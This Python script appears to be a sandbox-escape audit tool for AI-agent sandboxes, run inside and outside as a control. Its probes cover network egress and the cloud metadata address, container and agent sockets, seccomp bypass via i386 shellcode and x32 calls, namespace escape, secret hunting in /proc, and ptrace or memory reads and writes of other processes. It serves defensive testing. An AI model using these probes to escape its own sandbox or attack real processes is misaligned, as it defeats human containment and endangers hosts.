"""Tries ways out of a sandbox, each by its name; prints which are open, as JSON. Runs inside, and outside as a control.

Argument: JSON of what to try them on: addresses, ports, paths, a secret. An attack
returns what it found, or nothing; whatever stops it is an OSError.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import mmap
import os
import platform
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
SECONDS = 4.0
NEW_USER, NEW_NETWORK = 0x10000000, 0x40000000
KEYS_OF_USER = -4
BESIDE_NETWORKS = (40, 38, 44, 42, 31, 16)
"""Families: vsock, then the kernel's cryptography, XDP, routers, bluetooth, and netlink, which every kernel has."""
TO: dict[str, Any] = {}


def call(number: int, *words: int) -> int:
    """A system call; raises OSError."""
    result = LIBC.syscall(*(ctypes.c_long(w) for w in (number, *words)))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def spoken(place: Any, family: int = socket.AF_INET) -> bytes:
    """What a listener answers; raises OSError."""
    with socket.socket(family, socket.SOCK_STREAM) as ours:
        ours.settimeout(SECONDS)
        ours.connect(tuple(place) if isinstance(place, list) else place)
        ours.sendall(b"POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}")
        return ours.recv(100)


# Ways to somewhere


def relay() -> object:
    return spoken(TO["relay"])


def address() -> object:
    return spoken(TO["canary"])


def metadata() -> object:
    return first(
        lambda: spoken(["169.254.169.254", 80]),
        lambda: spoken(TO["canary_6"], socket.AF_INET6),
        lambda: spoken(["fe80::1", 80, 0, 1], socket.AF_INET6),
        lambda: spoken(["2001:db8::1", 80, 0, 0], socket.AF_INET6),
    )


def names_by_udp() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ours:
        ours.settimeout(1.0)
        ours.sendto(b"\x00\x01\x01\x00\x00\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01", tuple(TO["resolver"]))
        return ours.recv(512)


def names_by_tcp() -> object:
    return spoken(TO["resolver_tcp"])


def package() -> object:
    """What pip, npm and git do first: GET from an index."""
    import urllib.request

    with urllib.request.urlopen(f"http://{TO['canary'][0]}:{TO['canary'][1]}/simple/x/", timeout=SECONDS) as answer:
        return answer.read(10)


def gateway_socket() -> object:
    return spoken(TO["gateway"], socket.AF_UNIX)


def abstract_socket() -> object:
    return spoken("\0" + TO["abstract"], socket.AF_UNIX)


def engine_socket() -> object:
    return first(*(lambda p=p: spoken(p, socket.AF_UNIX) for p in TO["engines"]))  # type: ignore[misc]


def any_socket() -> object:
    """Every socket that a file system shows and that answers, but those that are said to be there."""
    found = []
    for path in everything(TO["top"]):
        with contextlib.suppress(OSError):
            if os.stat(path).st_mode & 0o170000 == 0o140000 and path not in TO["known_sockets"]:
                for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
                    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as ours:
                        ours.connect(path)
                        found.append(path)
    return found


def messaging_socket() -> object:
    """Where an agent listens for orders; then the folder is taken away, to see whether the next one is in reach."""
    folder, name = os.path.split(TO["messaging"])
    with contextlib.suppress(OSError):
        return spoken(TO["messaging"], socket.AF_UNIX)
    for trick in (lambda: os.rmdir(folder), lambda: os.rename(folder, folder + ".away")):
        with contextlib.suppress(OSError):
            trick()
            return "took the folder away"
    return spoken(f"{folder}/{name}", socket.AF_UNIX)


# Other families, other calls


def family(number: int, kind: int, protocol: int = 0) -> object:
    with socket.socket(number, kind, protocol):
        return "made"


def vsock() -> object:
    """A family that no network of a sandbox holds: that of the hypervisor, where this kernel has one, else others."""
    return first(*(lambda n=n, k=k: family(n, k) for n in BESIDE_NETWORKS for k in (1, 2, 3, 5)))  # type: ignore[misc]


def netlink() -> object:
    return family(16, socket.SOCK_RAW)


def packet() -> object:
    """Frames and raw packets, which root of a network makes: of this one, or of one of our own."""

    if in_child(lambda: LIBC.unshare(NEW_USER | NEW_NETWORK) == 0 and bool(family(17, socket.SOCK_RAW))):
        return "made in a network of our own"
    return first(lambda: family(17, socket.SOCK_RAW), lambda: family(2, socket.SOCK_RAW, 1))


def ring() -> object:
    """Calls that the kernel makes past the filter; where this one has them switched off, keys that sandboxes share."""
    room = ctypes.create_string_buffer(200)
    return first(
        lambda: call(425, 4, ctypes.addressof(room)) and "made",
        lambda: call(250 if X86 else 219, 0, KEYS_OF_USER, 1) and "keys",
    )


def foreign_calls() -> object:
    """Calls that a filter may read otherwise than the kernel does; it may kill a process for them."""

    def interrupt() -> bool:
        code = b"\x31\xc0\xb0\x14\xcd\x80\xc3"  # xor eax,eax; mov al,20 (getpid of i386); int 0x80; ret
        with mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) as room:
            room.write(code)
            called = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(room)))
            return bool(called() == os.getpid())

    tries = {
        "another architecture": interrupt,
        "x32": lambda: call(0x40000000 | 41, 2, 1, 0) >= 0,
        "a family of 64 bits": lambda: call(41 if X86 else 198, (1 << 32) | 16, 3, 0) >= 0,
    }
    return [name for name, tried in tries.items() if (X86 or "bits" in name) and in_child(tried)]


# Secrets and other processes


def secret() -> object:
    """The real key in what can be read: environments and arguments of processes, files of the places that are shown."""
    key = TO["terces"][::-1].encode()
    paths = [f"/proc/{pid}/{name}" for pid in pids() for name in ("environ", "cmdline")]
    files = [p for top in TO["readable"] for p in everything(top)]
    return [path for path in (*paths, *files) if key in content(path)]


def victims() -> list[int]:
    """Processes that are worth attacking, by a word of their command line."""
    mark, own = TO["victim"].encode(), {1, os.getpid(), os.getppid()}
    shown = [p for p in pids() if mark in content(f"/proc/{p}/cmdline") and p not in own]
    if shown or TO.get("control"):
        return shown
    return [p for p in range(2, os.getpid()) if p not in own and succeeds(lambda p=p: os.kill(p, 0))]  # type: ignore[misc]


def of_victims(attack: Callable[[int], object]) -> list[int]:
    """Those on which the attack succeeds. Raises OSError where there is nobody to attack."""
    found = victims()
    if not found:
        raise OSError(errno.ESRCH, "no victim is in sight")
    return [pid for pid in found if succeeds(lambda p=pid: attack(p))]


def agent_seen() -> object:
    """Processes of the agent's sandbox."""
    marks = [m.encode() for m in TO["agent_marks"]]
    return [p for p in pids() if p != os.getpid() and any(m in content(f"/proc/{p}/cmdline") for m in marks)]


def traces_victim() -> object:
    return of_victims(lambda pid: call(101 if X86 else 117, 16, pid, 0, 0))


def reads_victim() -> object:
    def read(pid: int) -> int:
        buffer = ctypes.create_string_buffer(8)
        here = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 8)
        with open(f"/proc/{pid}/maps") as maps:
            there = (ctypes.c_ulong * 2)(int(maps.readline().split("-")[0], 16), 8)
        return call(310 if X86 else 270, pid, ctypes.addressof(here), 1, ctypes.addressof(there), 1, 0)

    return of_victims(read)


def takes_descriptor() -> object:
    return of_victims(lambda pid: call(438, os.pidfd_open(pid), 0, 0))


def writes_memory() -> object:
    return of_victims(lambda pid: open(f"/proc/{pid}/mem", "r+b").close())


# Privileges


def namespaces() -> object:
    def enter() -> bool:
        with open("/proc/1/ns/net") as other:
            return LIBC.setns(other.fileno(), 0) == 0

    def mount() -> bool:
        place = TO["scratch"].encode()
        return LIBC.mount(b"x", place, b"tmpfs", 0, None) == 0 and LIBC.umount(place) == 0

    def leave() -> bool:
        return LIBC.unshare(NEW_USER) == 0 or LIBC.unshare(NEW_NETWORK) == 0

    tries = {"unshare": leave, "setns": enter, "mount": mount}
    return [name for name, tried in tries.items() if in_child(tried)]


def becomes_root() -> object:
    """A set-uid program counts: without this bit it does."""
    with open("/proc/self/status") as status:
        return "NoNewPrivs:\t1" not in status.read()


def writes() -> object:
    """Files that decide what runs."""
    found = []
    for path in TO["written"]:
        with contextlib.suppress(OSError), open(path, "ab"):
            found.append(path)
    return found


def preload() -> object:
    return os.environ.get("LD_PRELOAD")


# From the agent's side


def executes_own() -> object:
    """A program that was put where both sides write."""
    return subprocess.run([TO["foreign"]], capture_output=True, timeout=SECONDS).returncode == 0


def executes_by_settings() -> object:
    """A shell of one's own, named as an agent's settings would."""
    env = {**os.environ, "SHELL": TO["foreign"], "PATH": os.path.dirname(TO["foreign"])}
    return subprocess.run([env["SHELL"], "-c", "exit 0"], env=env, capture_output=True, timeout=SECONDS).returncode == 0


def interpreter_reaches() -> object:
    """The agent's own interpreter with a script of ours, which is what a plug-in in the agent's language is."""
    return child_reaches(sys.executable)


def preloaded_reaches() -> object:
    return child_reaches(sys.executable, {**os.environ, "LD_PRELOAD": TO["library"]})


def loader_reaches() -> object:
    """A program that the loader loads, which is not executed by its own name."""
    loader = next(p for p in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1") if os.path.exists(p))
    return child_reaches(loader, words=[loader, sys.executable])


def child_reaches(program: str, env: dict[str, str] | None = None, words: list[str] | None = None) -> object:
    code = "import socket,sys; s=socket.create_connection((sys.argv[1], int(sys.argv[2])), 3); s.sendall(b'GET /');"
    code += "print(s.recv(20))"
    done = subprocess.run(
        [*(words or [program]), "-I", "-S", "-c", code, TO["relay"][0], str(TO["relay"][1])],
        env=env or dict(os.environ),
        capture_output=True,
        timeout=20,
    )
    return done.returncode == 0 and done.stdout


def named_server() -> object:
    """A server of tools, started by the name of an interpreter."""
    code = "import socket,sys; print(socket.create_connection((sys.argv[1], int(sys.argv[2])), 3))"
    done = subprocess.run(
        [TO["python"], "-c", code, TO["relay"][0], str(TO["relay"][1])], capture_output=True, timeout=20
    )
    return done.returncode == 0 and done.stdout


def inherited_connection() -> object:
    """A connection that whoever started this one left open."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(int(name))) as one:
            if one.family in {socket.AF_INET, socket.AF_INET6} and one.getpeername():
                found.append(name)
    return found


# How to try


def pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def content(path: str) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


def everything(top: str) -> Iterator[str]:
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in {"/proc", "/sys", *TO.get("left_out", [])}]
        for name in files:
            yield os.path.join(folder, name)


def first(*tries: Callable[[], object]) -> object:
    """The first answer; the last fault where there is none."""
    fault: OSError = OSError(errno.ENOENT, "nothing tried")
    for one in tries:
        try:
            return one()
        except OSError as error:
            fault = error
    raise fault


def succeeds(action: Callable[[], object]) -> bool:
    try:
        action()
    except OSError:
        return False
    return True


def in_child(action: Callable[[], bool]) -> bool:
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(OSError):
            os._exit(0 if action() else 1)
        os._exit(2)
    return os.waitpid(pid, 0)[1] == 0


def main() -> int:
    names = sys.argv[2:]
    TO.update(json.loads(sys.argv[1]))
    found = {}
    for name in names:
        try:
            said = globals()[name]()
            found[name] = said if isinstance(said, bool | list | int) else repr(said) if said else ""
        except (OSError, subprocess.SubprocessError, StopIteration) as fault:
            found[name] = ""
            print(f"{name}: {fault!r}", file=sys.stderr)
    print(json.dumps(found))
    return 0


if __name__ == "__main__":
    sys.exit(main())
